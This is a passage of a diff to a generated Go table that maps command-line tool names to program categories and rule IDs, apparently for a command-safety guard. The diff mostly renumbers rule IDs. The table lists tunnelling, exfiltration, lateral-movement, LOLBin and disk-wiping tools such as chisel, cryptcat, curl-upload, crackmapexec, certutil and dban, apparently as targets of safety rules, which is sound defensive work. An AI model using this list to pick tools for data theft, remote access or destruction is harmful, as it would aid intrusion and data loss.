+				Rules:   []uint16{59},
 			},
 			nameEntry{
 				Name:    "boot",
@@ -9217,42 +9294,42 @@ var shipped = Set{
 			nameEntry{
 				Name:    "bootctl",
 				Program: -1,
-				Rules:   []uint16{351},
+				Rules:   []uint16{355},
 			},
 			nameEntry{
 				Name:    "bootrec",
 				Program: -1,
-				Rules:   []uint16{351},
+				Rules:   []uint16{355},
 			},
 			nameEntry{
 				Name:    "bore",
 				Program: -1,
-				Rules:   []uint16{281, 282},
+				Rules:   []uint16{285, 286},
 			},
 			nameEntry{
 				Name:    "borg",
 				Program: 65,
-				Rules:   []uint16{186},
+				Rules:   []uint16{190},
 			},
 			nameEntry{
 				Name:    "borgmatic",
 				Program: 65,
-				Rules:   []uint16{186},
+				Rules:   []uint16{190},
 			},
 			nameEntry{
 				Name:    "boundary",
 				Program: 61,
-				Rules:   []uint16{175},
+				Rules:   []uint16{179},
 			},
 			nameEntry{
 				Name:    "bpftool",
 				Program: -1,
-				Rules:   []uint16{320},
+				Rules:   []uint16{324},
 			},
 			nameEntry{
 				Name:    "bq",
 				Program: 58,
-				Rules:   []uint16{107},
+				Rules:   []uint16{111},
 			},
 			nameEntry{
 				Name:    "brakeman",
@@ -9264,7 +9341,7 @@ var shipped = Set{
 			nameEntry{
 				Name:    "brew",
 				Program: 44,
-				Rules:   []uint16{296, 313, 324, 338, 343, 373},
+				Rules:   []uint16{300, 317, 328, 342, 347, 377},
 			},
 			nameEntry{
 				Name:    "bridge",
@@ -9273,7 +9350,7 @@ var shipped = Set{
 			nameEntry{
 				Name:    "bsdtar",
 				Program: 24,
-				Rules:   []uint16{38, 225, 307},
+				Rules:   []uint16{38, 229, 311},
 			},
 			nameEntry{
 				Name:    "btop",
@@ -9282,7 +9359,7 @@ var shipped = Set{
 			nameEntry{
 				Name:    "btrfs",
 				Program: 64,
-				Rules:   []uint16{186},
+				Rules:   []uint16{190},
 			},
 			nameEntry{
 				Name:    "buck",
@@ -9295,11 +9372,12 @@ var shipped = Set{
 			nameEntry{
 				Name:    "buf",
 				Program: 32,
+				Rules:   []uint16{58},
 			},
 			nameEntry{
 				Name:    "buildah",
 				Program: 62,
-				Rules:   []uint16{36, 177, 287},
+				Rules:   []uint16{36, 181, 291},
 			},
 			nameEntry{
 				Name: "builtin",
@@ -9307,12 +9385,12 @@ var shipped = Set{
 			nameEntry{
 				Name:    "bun",
 				Program: 39,
-				Rules:   []uint16{94, 95, 96, 97, 98, 99, 105, 123, 147, 148, 285, 296, 297, 306},
+				Rules:   []uint16{98, 99, 100, 101, 102, 103, 109, 127, 151, 152, 289, 300, 301, 310},
 			},
 			nameEntry{
 				Name:    "bundle",
 				Program: 43,
-				Rules:   []uint16{306},
+				Rules:   []uint16{310},
 			},
 			nameEntry{
 				Name:    "bundle-exec",
@@ -9325,7 +9403,7 @@ var shipped = Set{
 			nameEntry{
 				Name:    "bunx",
 				Program: 40,
-				Rules:   []uint16{285, 296, 300},
+				Rules:   []uint16{289, 300, 304},
 			},
 			nameEntry{
 				Name:    "bunzip2",
@@ -9334,7 +9412,7 @@ var shipped = Set{
 			nameEntry{
 				Name:    "bup",
 				Program: 65,
-				Rules:   []uint16{186},
+				Rules:   []uint16{190},
 			},
 			nameEntry{
 				Name:    "busted",
@@ -9343,12 +9421,12 @@ var shipped = Set{
 			nameEntry{
 				Name:    "busybox",
 				Program: 4,
-				Rules:   []uint16{293},
+				Rules:   []uint16{297},
 			},
 			nameEntry{
 				Name:    "bw",
 				Program: 61,
-				Rules:   []uint16{23, 42, 175},
+				Rules:   []uint16{23, 42, 179},
 			},
 			nameEntry{
 				Name:    "bwrap",
@@ -9357,7 +9435,7 @@ var shipped = Set{
 			nameEntry{
 				Name:    "bx",
 				Program: -1,
-				Rules:   []uint16{142},
+				Rules:   []uint16{146},
 			},
 			nameEntry{
 				Name:    "byobu",
@@ -9374,7 +9452,7 @@ var shipped = Set{
 			nameEntry{
 				Name:    "bzr",
 				Program: -1,
-				Rules:   []uint16{260},
+				Rules:   []uint16{264},
 			},
 			nameEntry{
 				Name:    "c++",
@@ -9391,12 +9469,12 @@ var shipped = Set{
 			nameEntry{
 				Name:    "cacls",
 				Program: -1,
-				Rules:   []uint16{224, 226},
+				Rules:   []uint16{228, 230},
 			},
 			nameEntry{
 				Name:    "caddy",
 				Program: 45,
-				Rules:   []uint16{293},
+				Rules:   []uint16{297},
 			},
 			nameEntry{
 				Name:    "caffeinate",
@@ -9412,12 +9490,12 @@ var shipped = Set{
 			nameEntry{
 				Name:    "cap",
 				Program: 61,
-				Rules:   []uint16{127, 181},
+				Rules:   []uint16{131, 185},
 			},
 			nameEntry{
 				Name:    "caprover",
 				Program: 61,
-				Rules:   []uint16{146},
+				Rules:   []uint16{150},
 			},
 			nameEntry{
 				Name:    "capsh",
@@ -9426,7 +9504,7 @@ var shipped = Set{
 			nameEntry{
 				Name:    "cargo",
 				Program: 31,
-				Rules:   []uint16{37, 105, 285, 286, 296, 306},
+				Rules:   []uint16{37, 109, 289, 290, 300, 310},
 			},
 			nameEntry{
 				Name:    "cargo-watch",
@@ -9439,7 +9517,7 @@ var shipped = Set{
 			nameEntry{
 				Name:    "cassandra",
 				Program: -1,
-				Rules:   []uint16{107},
+				Rules:   []uint16{111},
 			},
 			nameEntry{
 				Name:    "cat",
@@ -9452,7 +9530,7 @@ var shipped = Set{
 			nameEntry{
 				Name:    "cbq",
 				Program: -1,
-				Rules:   []uint16{107, 111},
+				Rules:   []uint16{111, 115},
 			},
 			nameEntry{
 				Name:    "cc",
@@ -9465,7 +9543,7 @@ var shipped = Set{
 			nameEntry{
 				Name:    "ccloud",
 				Program: 61,
-				Rules:   []uint16{142},
+				Rules:   []uint16{146},
 			},
 			nameEntry{
 				Name: "cd",
@@ -9473,12 +9551,12 @@ var shipped = Set{
 			nameEntry{
 				Name:    "cdk",
 				Program: 61,
-				Rules:   []uint16{122, 124, 125},
+				Rules:   []uint16{126, 128, 129},
 			},
 			nameEntry{
 				Name:    "cdktf",
 				Program: 61,
-				Rules:   []uint16{118, 120},
+				Rules:   []uint16{122, 124},
 			},
 			nameEntry{
 				Name:    "celery",
@@ -9491,52 +9569,52 @@ var shipped = Set{
 			nameEntry{
 				Name:    "certutil",
 				Program: -1,
-				Rules:   []uint16{303, 344},
+				Rules:   []uint16{307, 348},
 			},
 			nameEntry{
 				Name:    "certutil.exe",
 				Program: -1,
-				Rules:   []uint16{303},
+				Rules:   []uint16{307},
 			},
 			nameEntry{
 				Name:    "cf",
 				Program: 61,
-				Rules:   []uint16{18, 36, 142},
+				Rules:   []uint16{18, 36, 146},
 			},
 			nameEntry{
 				Name:    "cfdisk",
 				Program: 64,
-				Rules:   []uint16{210},
+				Rules:   []uint16{214},
 			},
 			nameEntry{
 				Name:    "chage",
 				Program: 64,
-				Rules:   []uint16{319},
+				Rules:   []uint16{323},
 			},
 			nameEntry{
 				Name:    "chalice",
 				Program: 61,
-				Rules:   []uint16{122, 124},
+				Rules:   []uint16{126, 128},
 			},
 			nameEntry{
 				Name:    "chamber",
 				Program: 61,
-				Rules:   []uint16{23, 175},
+				Rules:   []uint16{23, 179},
 			},
 			nameEntry{
 				Name:    "changeset",
 				Program: -1,
-				Rules:   []uint16{285},
+				Rules:   []uint16{289},
 			},
 			nameEntry{
 				Name:    "charmcraft",
 				Program: 32,
-				Rules:   []uint16{285, 286},
+				Rules:   []uint16{289, 290},
 			},
 			nameEntry{
 				Name:    "chattr",
 				Program: 20,
-				Rules:   []uint16{221, 224},
+				Rules:   []uint16{225, 228},
 			},
 			nameEntry{
 				Name:    "checkov",
@@ -9553,7 +9631,7 @@ var shipped = Set{
 			nameEntry{
 				Name:    "chef-client",
 				Program: -1,
-				Rules:   []uint16{181},
+				Rules:   []uint16{185},
 			},
 			nameEntry{
 				Name:    "chezmoi",
@@ -9566,22 +9644,22 @@ var shipped = Set{
 			nameEntry{
 				Name:    "chisel",
 				Program: -1,
-				Rules:   []uint16{272},
+				Rules:   []uint16{276},
 			},
 			nameEntry{
 				Name:    "chkconfig",
 				Program: 64,
-				Rules:   []uint16{313},
+				Rules:   []uint16{317},
 			},
 			nameEntry{
 				Name:    "chmod",
 				Program: 20,
-				Rules:   []uint16{218, 219, 299, 318},
+				Rules:   []uint16{222, 223, 303, 322},
 			},
 			nameEntry{
 				Name:    "choco",
 				Program: 44,
-				Rules:   []uint16{343, 363},
+				Rules:   []uint16{347, 367},
 			},
 			nameEntry{
 				Name:    "chown",
@@ -9590,7 +9668,7 @@ var shipped = Set{
 			nameEntry{
 				Name:    "chpasswd",
 				Program: 64,
-				Rules:   []uint16{319},
+				Rules:   []uint16{323},
 			},
 			nameEntry{
 				Name:    "chroot",
@@ -9603,22 +9681,22 @@ var shipped = Set{
 			nameEntry{
 				Name:    "chsh",
 				Program: 64,
-				Rules:   []uint16{319},
+				Rules:   []uint16{323},
 			},
 			nameEntry{
 				Name:    "cipher",
 				Program: -1,
-				Rules:   []uint16{211, 227},
+				Rules:   []uint16{215, 231},
 			},
 			nameEntry{
 				Name:    "cipher.exe",
 				Program: -1,
-				Rules:   []uint16{227},
+				Rules:   []uint16{231},
 			},
 			nameEntry{
 				Name:    "civo",
 				Program: 61,
-				Rules:   []uint16{18, 142, 185},
+				Rules:   []uint16{18, 146, 189},
 			},
 			nameEntry{
 				Name:    "cksum",
@@ -9643,17 +9721,17 @@ var shipped = Set{
 			nameEntry{
 				Name:    "claude",
 				Program: 66,
-				Rules:   []uint16{364, 366},
+				Rules:   []uint16{368, 370},
 			},
 			nameEntry{
 				Name:    "claudia",
 				Program: -1,
-				Rules:   []uint16{122},
+				Rules:   []uint16{126},
 			},
 			nameEntry{
 				Name:    "clawhub",
 				Program: -1,
-				Rules:   []uint16{285},
+				Rules:   []uint16{289},
 			},
 			nameEntry{
 				Name: "clear",
@@ -9661,7 +9739,7 @@ var shipped = Set{
 			nameEntry{
 				Name:    "clear-disk",
 				Program: -1,
-				Rules:   []uint16{228},
+				Rules:   []uint16{232},
 			},
 			nameEntry{
 				Name:    "clerk",
@@ -9670,7 +9748,7 @@ var shipped = Set{
 			nameEntry{
 				Name:    "clever",
 				Program: 61,
-				Rules:   []uint16{146},
+				Rules:   []uint16{150},
 			},
 			nameEntry{
 				Name:    "clickhouse",
@@ -9679,12 +9757,12 @@ var shipped = Set{
 			nameEntry{
 				Name:    "clickhouse-client",
 				Program: 58,
-				Rules:   []uint16{113},
+				Rules:   []uint16{117},
 			},
 			nameEntry{
 				Name:    "cline",
 				Program: 66,
-				Rules:   []uint16{364},
+				Rules:   []uint16{368},
 			},
 			nameEntry{
 				Name:    "clippy-driver",
@@ -9705,7 +9783,7 @@ var shipped = Set{
 			nameEntry{
 				Name:    "cloudflared",
 				Program: 45,
-				Rules:   []uint16{282},
+				Rules:   []uint16{286},
 			},
 			nameEntry{
 				Name:    "cloudquery",
@@ -9714,12 +9792,12 @@ var shipped = Set{
 			nameEntry{
 				Name:    "clush",
 				Program: -1,
-				Rules:   []uint16{126, 127},
+				Rules:   []uint16{130, 131},
 			},
 			nameEntry{
 				Name:    "clusterctl",
 				Program: -1,
-				Rules:   []uint16{176},
+				Rules:   []uint16{180},
 			},
 			nameEntry{
 				Name:    "clusterdb",
@@ -9745,12 +9823,12 @@ var shipped = Set{
 			nameEntry{
 				Name:    "cn",
 				Program: 66,
-				Rules:   []uint16{364},
+				Rules:   []uint16{368},
 			},
 			nameEntry{
 				Name:    "cockroach",
 				Program: 58,
-				Rules:   []uint16{91},
+				Rules:   []uint16{95},
 			},
 			nameEntry{
 				Name:    "code",
@@ -9775,12 +9853,12 @@ var shipped = Set{
 			nameEntry{
 				Name:    "codex",
 				Program: 66,
-				Rules:   []uint16{364, 366},
+				Rules:   []uint16{368, 370},
 			},
 			nameEntry{
 				Name:    "colima",
 				Program: 61,
-				Rules:   []uint16{171},
+				Rules:   []uint16{175},
 			},
 			nameEntry{
 				Name:    "colordiff",
@@ -9814,7 +9892,7 @@ var shipped = Set{
 			nameEntry{
 				Name:    "composer",
 				Program: 44,
-				Rules:   []uint16{98, 306},
+				Rules:   []uint16{102, 310},
 			},
 			nameEntry{
 				Name:    "conan",
@@ -9827,7 +9905,7 @@ var shipped = Set{
 			nameEntry{
 				Name:    "conda",
 				Program: 41,
-				Rules:   []uint16{285},
+				Rules:   []uint16{289},
 			},
 			nameEntry{
 				Name:    "configure",
@@ -9836,7 +9914,7 @@ var shipped = Set{
 			nameEntry{
 				Name:    "confluent",
 				Program: 61,
-				Rules:   []uint16{142},
+				Rules:   []uint16{146},
 			},
 			nameEntry{
 				Name:    "conjur",
@@ -9846,17 +9924,17 @@ var shipped = Set{
 			nameEntry{
 				Name:    "console",
 				Program: 48,
-				Rules:   []uint16{104},
+				Rules:   []uint16{108},
 			},
 			nameEntry{
 				Name:    "consul",
 				Program: 58,
-				Rules:   []uint16{90, 175},
+				Rules:   []uint16{94, 179},
 			},
 			nameEntry{
 				Name:    "contentful",
 				Program: 61,
-				Rules:   []uint16{146},
+				Rules:   []uint16{150},
 			},
 			nameEntry{
 				Name: "continue",
@@ -9868,17 +9946,17 @@ var shipped = Set{
 			nameEntry{
 				Name:    "convex",
 				Program: 48,
-				Rules:   []uint16{27, 104, 107, 146},
+				Rules:   []uint16{27, 108, 111, 150},
 			},
 			nameEntry{
 				Name:    "coolify",
 				Program: -1,
-				Rules:   []uint16{146},
+				Rules:   []uint16{150},
 			},
 			nameEntry{
 				Name:    "copilot",
 				Program: 66,
-				Rules:   []uint16{176, 364, 366},
+				Rules:   []uint16{180, 368, 370},
 			},
 			nameEntry{
 				Name:    "corepack",
@@ -9887,7 +9965,7 @@ var shipped = Set{
 			nameEntry{
 				Name:    "couchbase-cli",
 				Program: -1,
-				Rules:   []uint16{107, 111},
+				Rules:   []uint16{111, 115},
 			},
 			nameEntry{
 				Name:    "couchdb",
@@ -9904,7 +9982,7 @@ var shipped = Set{
 			nameEntry{
 				Name:    "cp",
 				Program: 18,
-				Rules:   []uint16{48, 213},
+				Rules:   []uint16{48, 217},
 			},
 			nameEntry{
 				Name:    "cpan",
@@ -9938,7 +10016,7 @@ var shipped = Set{
 			nameEntry{
 				Name:    "cqlsh",
 				Program: 58,
-				Rules:   []uint16{113},
+				Rules:   []uint16{117},
 			},
 			nameEntry{
 				Name:    "crackmapexec",
@@ -9948,7 +10026,7 @@ var shipped = Set{
 			nameEntry{
 				Name:    "crane",
 				Program: 62,
-				Rules:   []uint16{36, 287, 288},
+				Rules:   []uint16{36, 291, 292},
 			},
 			nameEntry{
 				Name:    "createdb",
@@ -9957,7 +10035,7 @@ var shipped = Set{
 			nameEntry{
 				Name:    "createuser",
 				Program: 59,
-				Rules:   []uint16{92},
+				Rules:   []uint16{96},
 			},
 			nameEntry{
 				Name:    "credo",
@@ -9966,7 +10044,7 @@ var shipped = Set{
 			nameEntry{
 				Name:    "credstash",
 				Program: 61,
-				Rules:   []uint16{23, 175},
+				Rules:   []uint16{23, 179},
 			},
 			nameEntry{
 				Name:    "crictl",
@@ -9975,12 +10053,12 @@ var shipped = Set{
 			nameEntry{
 				Name:    "croc",
 				Program: 56,
-				Rules:   []uint16{281, 290},
+				Rules:   []uint16{285, 294},
 			},
 			nameEntry{
 				Name:    "crontab",
 				Program: 64,
-				Rules:   []uint16{312},
+				Rules:   []uint16{316},
 			},
 			nameEntry{
 				Name:    "cross",
@@ -9993,22 +10071,22 @@ var shipped = Set{
 			nameEntry{
 				Name:    "crossplane",
 				Program: 61,
-				Rules:   []uint16{122},
+				Rules:   []uint16{126},
 			},
 			nameEntry{
 				Name:    "crush",
 				Program: 66,
-				Rules:   []uint16{364},
+				Rules:   []uint16{368},
 			},
 			nameEntry{
 				Name:    "cryptcat",
 				Program: -1,
-				Rules:   []uint16{272},
+				Rules:   []uint16{276},
 			},
 			nameEntry{
 				Name:    "cryptsetup",
 				Program: 64,
-				Rules:   []uint16{210, 333},
+				Rules:   []uint16{214, 337},
 			},
 			nameEntry{
 				Name:    "crystal",
@@ -10021,17 +10099,17 @@ var shipped = Set{
 			nameEntry{
 				Name:    "cscript",
 				Program: -1,
-				Rules:   []uint16{303},
+				Rules:   []uint16{307},
 			},
 			nameEntry{
 				Name:    "cscript.exe",
 				Program: -1,
-				Rules:   []uint16{303},
+				Rules:   []uint16{307},
 			},
 			nameEntry{
 				Name:    "csh",
 				Program: -1,
-				Rules:   []uint16{346, 347},
+				Rules:   []uint16{350, 351},
 			},
 			nameEntry{
 				Name:    "cspell",
@@ -10044,7 +10122,7 @@ var shipped = Set{
 			nameEntry{
 				Name:    "csrutil",
 				Program: 64,
-				Rules:   []uint16{330, 351},
+				Rules:   []uint16{334, 355},
 			},
 			nameEntry{
 				Name:    "csvcut",
@@ -10077,22 +10155,22 @@ var shipped = Set{
 			nameEntry{
 				Name:    "curator",
 				Program: -1,
-				Rules:   []uint16{107},
+				Rules:   []uint16{111},
 			},
 			nameEntry{
 				Name:    "curator_cli",
 				Program: -1,
-				Rules:   []uint16{107},
+				Rules:   []uint16{111},
 			},
 			nameEntry{
 				Name:    "curl",
 				Program: 52,
-				Rules:   []uint16{292},
+				Rules:   []uint16{296},
 			},
 			nameEntry{
 				Name:    "curl-upload",
 				Program: -1,
-				Rules:   []uint16{281},
+				Rules:   []uint16{285},
 			},
 			nameEntry{
 				Name:    "curlie",
@@ -10109,7 +10187,7 @@ var shipped = Set{
 			nameEntry{
 				Name:    "cursor-agent",
 				Program: 66,
-				Rules:   []uint16{364, 366},
+				Rules:   []uint16{368, 370},
 			},
 			nameEntry{
 				Name:    "cut",
@@ -10118,7 +10196,7 @@ var shipped = Set{
 			nameEntry{
 				Name:    "cvs",
 				Program: -1,
-				Rules:   []uint16{260},
+				Rules:   []uint16{264},
 			},
 			nameEntry{
 				Name:    "cwebp",
@@ -10127,7 +10205,7 @@ var shipped = Set{
 			nameEntry{
 				Name:    "cycle",
 				Program: 61,
-				Rules:   []uint16{146},
+				Rules:   []uint16{150},
 			},
 			nameEntry{
 				Name:    "cygpath",
@@ -10136,7 +10214,7 @@ var shipped = Set{
 			nameEntry{
 				Name:    "cypher-shell",
 				Program: 58,
-				Rules:   []uint16{111},
+				Rules:   []uint16{115},
 			},
 			nameEntry{
 				Name:    "cypress",
@@ -10161,12 +10239,12 @@ var shipped = Set{
 			nameEntry{
 				Name:    "darkhttpd",
 				Program: -1,
-				Rules:   []uint16{293},
+				Rules:   []uint16{297},
 			},
 			nameEntry{
 				Name:    "dart",
 				Program: 32,
-				Rules:   []uint16{285},
+				Rules:   []uint16{289},
 			},
 			nameEntry{
 				Name:    "dartanalyzer",
@@ -10179,7 +10257,7 @@ var shipped = Set{
 			nameEntry{
 				Name:    "dash",
 				Program: 4,
-				Rules:   []uint16{301, 302, 346, 347},
+				Rules:   []uint16{305, 306, 350, 351},
 			},
 			nameEntry{
 				Name:    "dashlane",
@@ -10194,27 +10272,27 @@ var shipped = Set{
 			nameEntry{
 				Name:    "datadog-ci",
 				Program: 61,
-				Rules:   []uint16{146},
+				Rules:   []uint16{150},
 			},
 			nameEntry{
 				Name:    "date",
 				Program: 9,
-				Rules:   []uint16{352},
+				Rules:   []uint16{356},
 			},
 			nameEntry{
 				Name:    "db-migrate",
 				Program: 48,
-				Rules:   []uint16{101, 102, 104},
+				Rules:   []uint16{105, 106, 108},
 			},
 			nameEntry{
 				Name:    "dban",
 				Program: -1,
-				Rules:   []uint16{210},
+				Rules:   []uint16{214},
 			},
 			nameEntry{
 				Name:    "dbmate",
 				Program: 48,
-				Rules:   []uint16{101, 102, 104},
+				Rules:   []uint16{105, 106, 108},
 			},
 			nameEntry{
 				Name:    "dbt",
@@ -10251,12 +10329,12 @@ var shipped = Set{
 			},
 			nameEntry{
 				Name:  "declare",
-				Rules: []uint16{207, 335, 374, 376},
+				Rules: []uint16{211, 339, 378, 380},
 			},
 			nameEntry{
 				Name:    "defaults",
 				Program: 64,
-				Rules:   []uint16{362},
+				Rules:   []uint16{366},
 			},
 			nameEntry{
 				Name:    "del",
@@ -10273,12 +10351,12 @@ var shipped = Set{
 			nameEntry{
 				Name:    "deluser",
 				Program: 64,
-				Rules:   []uint16{319},
+				Rules:   []uint16{323},
 			},
 			nameEntry{
 				Name:    "deno",
 				Program: 39,
-				Rules:   []uint16{98, 99, 285, 296},
+				Rules:   []uint16{102, 103, 289, 300},
 			},
 			nameEntry{
 				Name:    "depcheck",
@@ -10291,7 +10369,7 @@ var shipped = Set{
 			nameEntry{
 				Name:    "deployctl",
 				Program: 61,
-				Rules:   []uint16{146},
+				Rules:   []uint16{150},
 			},
 			nameEntry{
 				Name:    "deta",
@@ -10317,17 +10395,17 @@ var shipped = Set{
 			nameEntry{
 				Name:    "devin",
 				Program: 66,
-				Rules:   []uint16{364},
+				Rules:   []uint16{368},
 			},
 			nameEntry{
 				Name:    "devspace",
 				Program: -1,
-				Rules:   []uint16{122, 161},
+				Rules:   []uint16{126, 165},
 			},
 			nameEntry{
 				Name:    "devtunnel",
 				Program: -1,
-				Rules:   []uint16{282},
+				Rules:   []uint16{286},
 			},
 			nameEntry{
 				Name:    "df",
@@ -10340,7 +10418,7 @@ var shipped = Set{
 			nameEntry{
 				Name:    "diesel",
 				Program: 48,
-				Rules:   []uint16{101, 104},
+				Rules:   []uint16{105, 108},
 			},
 			nameEntry{
 				Name:    "diff",
@@ -10353,7 +10431,7 @@ var shipped = Set{
 			nameEntry{
 				Name:    "dig",
 				Program: 55,
-				Rules:   []uint16{275},
+				Rules:   []uint16{279},
 			},
 			nameEntry{
 				Name:    "dir",
@@ -10363,12 +10441,12 @@ var shipped = Set{
 			nameEntry{
 				Name:    "directus",
 				Program: 48,
-				Rules:   []uint16{104},
+				Rules:   []uint16{108},
 			},
 			nameEntry{
 				Name:    "direnv",
 				Program: 64,
-				Rules:   []uint16{314},
+				Rules:   []uint16{318},
 			},
 			nameEntry{
 				Name: "dirname",
@@ -10379,17 +10457,17 @@ var shipped = Set{
 			nameEntry{
 				Name:    "diskpart",
 				Program: 64,
-				Rules:   []uint16{210},
+				Rules:   []uint16{214},
 			},
 			nameEntry{
 				Name:    "diskshadow",
 				Program: -1,
-				Rules:   []uint16{227},
+				Rules:   []uint16{231},
 			},
 			nameEntry{
 				Name:    "diskutil",
 				Program: 64,
-				Rules:   []uint16{210},
+				Rules:   []uint16{214},
 			},
 			nameEntry{
 				Name: "disown",
@@ -10405,7 +10483,7 @@ var shipped = Set{
 			nameEntry{
 				Name:    "django-admin",
 				Program: 48,
-				Rules:   []uint16{103, 104},
+				Rules:   []uint16{107, 108},
 			},
 			nameEntry{
 				Name:    "djlint",
@@ -10426,42 +10504,42 @@ var shipped = Set{
 			nameEntry{
 				Name:    "dmsetup",
 				Program: -1,
-				Rules:   []uint16{223},
+				Rules:   []uint16{227},
 			},
 			nameEntry{
 				Name:    "dnf",
 				Program: 44,
-				Rules:   []uint16{343},
+				Rules:   []uint16{347},
 			},
 			nameEntry{
 				Name:    "doas",
 				Program: 64,
-				Rules:   []uint16{316},
+				Rules:   []uint16{320},
 			},
 			nameEntry{
 				Name:    "docker",
 				Program: 62,
-				Rules:   []uint16{36, 37, 43, 162, 163, 165, 166, 167, 168, 169, 170, 177, 180, 287},
+				Rules:   []uint16{36, 37, 43, 166, 167, 169, 170, 171, 172, 173, 174, 181, 184, 291},
 			},
 			nameEntry{
 				Name:    "docker-compose",
 				Program: 62,
-				Rules:   []uint16{164},
+				Rules:   []uint16{168},
 			},
 			nameEntry{
 				Name:    "docker-machine",
 				Program: 62,
-				Rules:   []uint16{122},
+				Rules:   []uint16{126},
 			},
 			nameEntry{
 				Name:    "doctl",
 				Program: 61,
-				Rules:   []uint16{18, 27, 37, 142, 185, 288, 345},
+				Rules:   []uint16{18, 27, 37, 146, 189, 292, 349},
 			},
 			nameEntry{
 				Name:    "doctrine",
 				Program: 48,
-				Rules:   []uint16{101, 102, 104},
+				Rules:   []uint16{105, 106, 108},
 			},
 			nameEntry{
 				Name:    "docusaurus",
@@ -10470,27 +10548,27 @@ var shipped = Set{
 			nameEntry{
 				Name:    "dog",
 				Program: 61,
-				Rules:   []uint16{146},
+				Rules:   []uint16{150},
 			},
 			nameEntry{
 				Name:    "doggo",
 				Program: 55,
-				Rules:   []uint16{275},
+				Rules:   []uint16{279},
 			},
 			nameEntry{
 				Name:    "dogshell",
 				Program: -1,
-				Rules:   []uint16{146},
+				Rules:   []uint16{150},
 			},
 			nameEntry{
 				Name:    "dokku",
 				Program: 61,
-				Rules:   []uint16{27, 146},
+				Rules:   []uint16{27, 150},
 			},
 			nameEntry{
 				Name:    "doppler",
 				Program: 61,
-				Rules:   []uint16{23, 175},
+				Rules:   []uint16{23, 179},
 			},
 			nameEntry{
 				Name:    "dos2unix",
@@ -10517,32 +10595,32 @@ var shipped = Set{
 			nameEntry{
 				Name:    "dotnet",
 				Program: 34,
-				Rules:   []uint16{101, 105, 285, 286},
+				Rules:   []uint16{105, 109, 289, 290},
 			},
 			nameEntry{
 				Name:    "dotnet-ef",
 				Program: 48,
-				Rules:   []uint16{101, 104},
+				Rules:   []uint16{105, 108},
 			},
 			nameEntry{
 				Name:    "dpkg",
 				Program: 44,
-				Rules:   []uint16{296, 343, 363},
+				Rules:   []uint16{300, 347, 367},
 			},
 			nameEntry{
 				Name:    "dracut",
 				Program: -1,
-				Rules:   []uint16{351},
+				Rules:   []uint16{355},
 			},
 			nameEntry{
 				Name:    "draft",
 				Program: -1,
-				Rules:   []uint16{176},
+				Rules:   []uint16{180},
 			},
 			nameEntry{
 				Name:    "dragonfly-cli",
 				Program: -1,
-				Rules:   []uint16{85},
+				Rules:   []uint16{89},
 			},
 			nameEntry{
 				Name:    "drawio",
@@ -10551,57 +10629,57 @@ var shipped = Set{
 			nameEntry{
 				Name:    "drill",
 				Program: 55,
-				Rules:   []uint16{275},
+				Rules:   []uint16{59, 279},
 			},
 			nameEntry{
 				Name:    "drizzle-kit",
 				Program: 48,
-				Rules:   []uint16{96, 97},
+				Rules:   []uint16{100, 101},
 			},
 			nameEntry{
 				Name:    "droid",
 				Program: 66,
-				Rules:   []uint16{364},
+				Rules:   []uint16{368},
 			},
 			nameEntry{
 				Name:    "dropbox",
 				Program: -1,
-				Rules:   []uint16{290},
+				Rules:   []uint16{294},
 			},
 			nameEntry{
 				Name:    "dropdb",
 				Program: 59,
-				Rules:   []uint16{84},
+				Rules:   []uint16{88},
 			},
 			nameEntry{
 				Name:    "dropuser",
 				Program: 59,
-				Rules:   []uint16{84},
+				Rules:   []uint16{88},
 			},
 			nameEntry{
 				Name:    "drupal",
 				Program: -1,
-				Rules:   []uint16{106},
+				Rules:   []uint16{110},
 			},
 			nameEntry{
 				Name:    "drush",
 				Program: 48,
-				Rules:   []uint16{106},
+				Rules:   []uint16{110},
 			},
 			nameEntry{
 				Name:    "dscl",
 				Program: -1,
-				Rules:   []uint16{319, 362},
+				Rules:   []uint16{323, 366},
 			},
 			nameEntry{
 				Name:    "dseditgroup",
 				Program: -1,
-				Rules:   []uint16{319},
+				Rules:   []uint16{323},
 			},
 			nameEntry{
 				Name:    "dsh",
 				Program: -1,
-				Rules:   []uint16{126},
+				Rules:   []uint16{130},
 			},
 			nameEntry{
 				Name:    "dstat",
@@ -10626,7 +10704,7 @@ var shipped = Set{
 			nameEntry{
 				Name:    "duckdb",
 				Program: 58,
-				Rules:   []uint16{113},
+				Rules:   []uint16{117},
 			},
 			nameEntry{
 				Name:    "duf",
@@ -10639,12 +10717,12 @@ var shipped = Set{
 			nameEntry{
 				Name:    "duplicacy",
 				Program: 65,
-				Rules:   []uint16{186},
+				Rules:   []uint16{190},
 			},
 			nameEntry{
 				Name:    "duplicity",
 				Program: 65,
-				Rules:   []uint16{186},
+				Rules:   []uint16{190},
 			},
 			nameEntry{
 				Name:    "dust",
@@ -10657,7 +10735,7 @@ var shipped = Set{
 			nameEntry{
 				Name:    "dweb",
 				Program: -1,
-				Rules:   []uint16{281},
+				Rules:   []uint16{285},
 			},
 			nameEntry{
 				Name:    "dyff",
@@ -10666,7 +10744,7 @@ var shipped = Set{
 			nameEntry{
 				Name:    "dynamodb-admin",
 				Program: -1,
-				Rules:   []uint16{107},
+				Rules:   []uint16{111},
 			},
 			nameEntry{
 				Name:    "e2fsck",
@@ -10683,7 +10761,7 @@ var shipped = Set{
 			nameEntry{
 				Name:    "eb",
 				Program: 61,
-				Rules:   []uint16{18, 27, 122, 124},
+				Rules:   []uint16{18, 27, 126, 128},
 			},
 			nameEntry{
 				Name: "echo",
@@ -10691,7 +10769,7 @@ var shipped = Set{
 			nameEntry{
 				Name:    "ecs-cli",
 				Program: 61,
-				Rules:   []uint16{122},
+				Rules:   []uint16{126},
 			},
 			nameEntry{
 				Name:    "ecto",
@@ -10704,7 +10782,7 @@ var shipped = Set{
 			nameEntry{
 				Name:    "edgedb",
 				Program: 58,
-				Rules:   []uint16{111},
+				Rules:   []uint16{115},
 			},
 			nameEntry{
 				Name:    "edquota",
@@ -10713,7 +10791,7 @@ var shipped = Set{
 			nameEntry{
 				Name:    "efibootmgr",
 				Program: -1,
-				Rules:   []uint16{351},
+				Rules:   []uint16{355},
 			},
 			nameEntry{
 				Name:    "egrep",
@@ -10723,12 +10801,12 @@ var shipped = Set{
 			nameEntry{
 				Name:    "eksctl",
 				Program: 61,
-				Rules:   []uint16{18, 158, 176},
+				Rules:   []uint16{18, 162, 180},
 			},
 			nameEntry{
 				Name:    "elasticsearch-node",
 				Program: -1,
-				Rules:   []uint16{108},
+				Rules:   []uint16{112},
 			},
 			nameEntry{
 				Name:    "elasticsearch-sql-cli",
@@ -10777,7 +10855,7 @@ var shipped = Set{
 			nameEntry{
 				Name:    "emerge",
 				Program: 44,
